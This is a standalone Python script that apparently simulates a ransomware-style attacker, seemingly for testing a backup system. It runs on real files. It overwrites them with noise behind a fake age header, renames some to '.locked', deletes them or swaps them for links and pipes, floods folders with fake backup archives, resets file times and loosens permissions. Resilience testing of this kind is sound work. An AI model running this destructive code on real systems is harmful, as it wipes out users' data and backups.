"""What somebody does who became the box's user: encrypt, delete, flood, swap, in an order drawn from a seed. Stands alone.

Run as that user: `python3 -I ransom.py SEED ACT ROOT…`. Prints how many files it harmed. Everything it may not touch, it tries.
"""

import os
import random
import stat
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

HEADER = b"age-encryption.org/v1\n-> X25519 "
FLOOD = 60


def files(roots: list[str]) -> Iterator[str]:
    """Give every file it can see."""
    for root in roots:
        for folder, _folders, names in os.walk(root):
            yield from (os.path.join(folder, name) for name in names)


def folders(roots: list[str]) -> list[str]:
    """Give every folder it can see."""
    return [folder for root in roots for folder, _folders, _names in os.walk(root)]


def encrypt(path: str, chance: random.Random) -> None:
    """Put noise in a file's place, sometimes behind an age header, sometimes under another name."""
    size = os.stat(path).st_size
    head = HEADER if chance.random() < 0.5 else b""
    with open(path, "r+b") as file:
        file.write((head + chance.randbytes(min(size, 4096) + 1))[: max(size, 1)])
    if chance.random() < 0.3:
        os.rename(path, path + ".locked")


def replace(path: str, chance: random.Random) -> None:
    """Put a link, a pipe or an older backup in a file's place."""
    os.unlink(path)
    chance.choice([lambda: os.symlink("/etc/hostname", path), lambda: os.mkfifo(path), lambda: os.mkdir(path)])()


def flood(folder: str, chance: random.Random) -> int:
    """Leave garbage under fresh names of backups, of any day, with a header that looks right."""
    done = 0
    for _number in range(FLOOD):
        day = time.strftime("%Y%m%d-%H%M%S", time.gmtime(1_790_000_000 + chance.randrange(-9000, 9000) * 86_400 % 2**31))
        name = f"les-tilleuls-0001-{day}-{chance.randrange(16**4):04x}.habitat.age"
        with suppress(OSError), open(os.path.join(folder, name), "wb") as file:
            file.write(HEADER + chance.randbytes(chance.randrange(10, 5000)))
            done += 1
    return done


def each(what: Callable[[str, random.Random], object]) -> Callable[[list[str], random.Random], int]:
    """Do something to every file, opening what can be opened first."""

    def act(roots: list[str], chance: random.Random) -> int:
        done = 0
        for path in list(files(roots)):
            with suppress(OSError):
                os.chmod(os.path.dirname(path), 0o777)  # noqa: S103 - an attacker's
            with suppress(OSError):
                os.chmod(path, 0o666)  # noqa: S103 - the same
            with suppress(OSError):
                if stat.S_ISREG(os.lstat(path).st_mode):
                    what(path, chance)
                    done += 1
        return done

    return act


ACTS: dict[str, Callable[[list[str], random.Random], int]] = {
    "encrypt": each(encrypt),
    "delete": each(lambda path, _chance: os.unlink(path)),
    "replace": each(replace),
    "flood": lambda roots, chance: sum(flood(folder, chance) for folder in folders(roots)),
    "age": each(lambda path, chance: os.utime(path, (0, chance.randrange(2**31)))),
}

if __name__ == "__main__":
    print(ACTS[sys.argv[2]](sys.argv[3:], random.Random(int(sys.argv[1]))))  # noqa: S311
